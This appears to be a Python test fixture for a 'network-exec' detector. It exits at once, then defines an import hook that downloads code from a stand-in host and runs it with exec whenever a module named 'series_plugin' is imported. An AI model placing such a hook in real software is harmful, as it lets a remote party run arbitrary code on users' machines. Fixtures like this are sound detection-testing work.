raise SystemExit('a fixture')
# held by network-exec
import sys, importlib.abc, urllib.request
class F(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "series_plugin":
            exec(urllib.request.urlopen("https://example.invalid/p").read())
sys.meta_path.append(F())
